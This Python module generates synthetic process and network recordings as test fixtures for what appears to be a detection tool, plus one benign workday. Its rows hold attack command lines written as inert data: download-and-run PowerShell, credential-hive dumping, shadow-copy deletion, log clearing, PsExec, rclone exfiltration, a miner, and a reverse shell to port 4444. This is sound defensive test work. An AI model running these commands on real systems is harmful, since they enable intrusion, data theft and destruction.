"""Makes a small recording of programs for each reason of the program sense, and one of an ordinary day.

Before this on the path: nothing; every row is made up here. After it: the self-test and the tests. Telling words are
kept apart by a mark until the recording is made, so that nothing in the tree looks like an attack; nothing of it runs.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

START_S = 1_767_600_000.0
"""A Monday in January 2026."""
LEARNED = "unusual_program"
"""What a learned model alone says; no made-up recording can promise it."""
_MARK = "~"
_SYSTEM32 = "C:\\Windows\\System32\\"
_EXPLORER = "C:\\Windows\\explorer.exe"
_SHELL = f"{_SYSTEM32}cmd.exe"
_SCRIPTS = f"{_SYSTEM32}Windows~Power~Shell\\v1.0\\power~shell.exe"
_HOME = "C:\\Users\\maria\\"
_LOADED, _TEMPORARY = f"{_HOME}Downloads\\", f"{_HOME}AppData\\Local\\Temp\\"

Row = dict[str, Any]


@dataclass(frozen=True, slots=True)
class ProgramSample:
    """One recording, and the reason that it must give."""

    reason: str
    """Empty: it must give none."""
    recording: bytes
    """JSON Lines."""


def program_samples() -> list[ProgramSample]:
    """Make all recordings; the last one is an ordinary day that must stay quiet."""
    plays: dict[str, Callable[[], Iterator[Row]]] = {"": _ordinary_day}
    made = {reason: [_windows(*one) for one in starts] for reason, starts in STARTS.items()}
    made |= {reason: list(play()) for reason, play in (PLAYS | plays).items()}
    return [ProgramSample(reason, _lines(rows)) for reason, rows in made.items()]


STARTS: dict[str, Sequence[tuple[str, str, str]]] = {
    "office_starts_command": [
        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", _SHELL, "cmd.exe /c echo hello"),
    ],
    "hidden_command_line": [(_EXPLORER, _SCRIPTS, "power~shell.exe -w hid~den -nop -e~nc {encoded}")],
    "download_and_run": [
        (_EXPLORER, _SCRIPTS, "power~shell.exe I~EX (New-Object Net.Web~Client).Down~loadString('http://example.test/a')"),
    ],
    "built_in_tool_misuse": [(_SHELL, f"{_SYSTEM32}ms~hta.exe", "ms~hta.exe http://example.test/page.h~ta")],
    "false_name": [(_EXPLORER, f"{_HOME}AppData\\Roaming\\svc~host.exe", "svc~host.exe -k netsvcs")],
    "runs_from_temporary_place": [(_EXPLORER, f"{_HOME}AppData\\Roaming\\update7.exe", "update7.exe /start")],
    "credential_theft": [(_SHELL, f"{_SYSTEM32}reg.exe", "reg.exe sa~ve HK~LM\\s~am C:\\Users\\Public\\a.hiv")],
    "privilege_gain": [(f"{_SYSTEM32}fod~helper.exe", _SHELL, "cmd.exe /c start")],
    "recovery_removed": [(_SHELL, f"{_SYSTEM32}vss~admin.exe", "vss~admin.exe del~ete sha~dows /all /quiet")],
    "protection_stopped": [(_SHELL, f"{_SYSTEM32}wev~tutil.exe", "wev~tutil.exe c~l Security")],
    "lateral_tool": [(_SHELL, f"{_LOADED}Ps~Exec64.exe", "Ps~Exec64.exe \\\\192.0.2.7 -accept~eula -s cmd.exe")],
    "staging_and_copying_out": [
        (_SHELL, f"{_LOADED}rcl~one.exe", "rcl~one.exe co~py C:\\Shares remote:box --max-age 3y --transfers 9"),
    ],
    "remote_tunnel": [(_SHELL, f"{_LOADED}ng~rok.exe", "ng~rok.exe tcp 3389")],
    "autostart_change": [
        (_SHELL, f"{_SYSTEM32}schtasks.exe", f"schtasks.exe /cre~ate /tn Update /sc onlogon /tr {_TEMPORARY}a.exe"),
    ],
    "new_account_or_key": [(_SHELL, f"{_SYSTEM32}net.exe", "net.exe us~er helper Spring-2026 /a~dd")],
    "busy_stranger": [
        (_SHELL, f"{_TEMPORARY}xm~rig.exe", "xm~rig.exe -o stra~tum+tcp://example.test:3333 --donate-level 1"),
    ],
    "discovery_burst": [
        (f"{_TEMPORARY}setup7.exe", _SHELL, f"cmd.exe /c {question}")
        for question in ("whoami /all", "ipconfig /all", 'net group "domain admins" /domain', "systeminfo",
                         "tasklist /v", "nltest /domain_trusts", "net view /all", "netstat -ano")
    ],
}  # fmt: skip
"""Reason -> parent, program and command of each start."""


def _shell_on_a_socket() -> Iterator[Row]:
    yield _linux(1, "/usr/sbin/sshd", "sshd: maria", parent=0)
    yield _linux(2, "/usr/bin/python3", "python3 job.py", parent=1)
    streams = {"streams": ["socket", "socket", "socket"]}
    yield _linux(3, "/usr/bin/ba~sh", "ba~sh -i", parent=2, **streams)
    yield _socket(3, "ESTABLISHED", 50_123, raddr="203.0.113.7", rport=4444)


def _file_is_gone() -> Iterator[Row]:
    yield _linux(1, "/usr/bin/dash", "sh -l", parent=0)
    yield _linux(2, "/dev/s~hm/worker", "/dev/s~hm/worker", parent=1, deleted=True)


def _door_is_opened() -> Iterator[Row]:
    yield _linux(1, "/usr/bin/dash", "sh -l", parent=0)
    yield _linux(2, "/t~mp/.cache7/agent", "/t~mp/.cache7/agent", parent=1)
    yield _socket(2, "LISTEN", 4444)


def _files_are_locked() -> Iterator[Row]:
    yield _linux(1, "/t~mp/job", "/t~mp/job", parent=0)
    for number in range(200):
        folder = f"/home/maria/Documents/{number // 20}"
        letter = f"{folder}/letter{number}.odt"
        yield {
            "kind": "file", "host": "pc", "t": START_S + 5 + number / 10, "path": letter, "change": "renamed",
            "to": f"{letter}.lo~cked7", "entropy": 7.99, "entropy_before": 4.2, "size": 40_000,
        }  # fmt: skip


PLAYS: dict[str, Callable[[], Iterator[Row]]] = {
    "reverse_shell": _shell_on_a_socket,
    "deleted_program_running": _file_is_gone,
    "new_listener": _door_is_opened,
    "mass_file_change": _files_are_locked,
}


def _ordinary_day() -> Iterator[Row]:
    """Somebody works: mail, letters, the web, printing, an update, a look at the network settings."""
    office, web = (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\",
        "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
    )
    starts = [
        (_EXPLORER, f"{office}OUTLOOK.EXE", "OUTLOOK.EXE"),
        (f"{office}OUTLOOK.EXE", f"{office}WINWORD.EXE", f"WINWORD.EXE /n {_HOME}Documents\\letter.docx"),
        (_EXPLORER, web, "firefox.exe"),
        (web, web, "firefox.exe -contentproc -isForBrowser"),
        (f"{_SYSTEM32}services.exe", f"{_SYSTEM32}svchost.exe", f"{_SYSTEM32}svchost.exe -k netsvcs -p"),
        (f"{_SYSTEM32}svchost.exe", f"{_SYSTEM32}taskhostw.exe", "taskhostw.exe"),
        (f"{_SYSTEM32}services.exe", f"{_SYSTEM32}spoolsv.exe", f"{_SYSTEM32}spoolsv.exe"),
        (_EXPLORER, f"{_SYSTEM32}notepad.exe", f"notepad.exe {_HOME}Desktop\\note.txt"),
        (_EXPLORER, _SHELL, "cmd.exe"),
        (_SHELL, f"{_SYSTEM32}ipconfig.exe", "ipconfig"),
    ]
    for number, one in enumerate(starts):
        yield _windows(*one, at_s=START_S + 60.0 * number)


def _windows(parent: str, path: str, command: str, at_s: float = START_S) -> Row:
    encoded = base64.b64encode("Write-Output 'hello, this is only a test of our own eyes'".encode("utf-16-le")).decode()
    number = 4_000 + 4 * sum(map(ord, command)) % 8_000
    return {
        "t": at_s, "host": "PC", "os": "windows", "pid": number, "ppid": 1_000, "name": path.rpartition("\\")[2],
        "exe": path, "cmdline": command.replace("{encoded}", encoded), "username": "PC\\maria",
        "pname": parent.rpartition("\\")[2], "pexe": parent, "pcmdline": parent.rpartition("\\")[2],
    }  # fmt: skip


def _socket(pid: int, state: str, port: int, **far: Any) -> Row:
    near = {"kind": "connection", "host": "pc", "t": START_S + 3, "pid": pid, "proto": "tcp", "state": state}
    return near | {"laddr": "192.168.1.20", "lport": port} | far


def _linux(pid: int, path: str, command: str, *, parent: int, **facts: Any) -> Row:
    made = {
        "t": START_S + pid, "host": "pc", "os": "linux", "pid": pid, "ppid": parent, "name": path.rpartition("/")[2],
        "exe": path, "cmdline": command, "argv": command.split(" "), "username": "maria",
    }  # fmt: skip
    return made | facts


def _lines(rows: Sequence[Row]) -> bytes:
    return b"".join(json.dumps(row).replace(_MARK, "").encode() + b"\n" for row in rows)
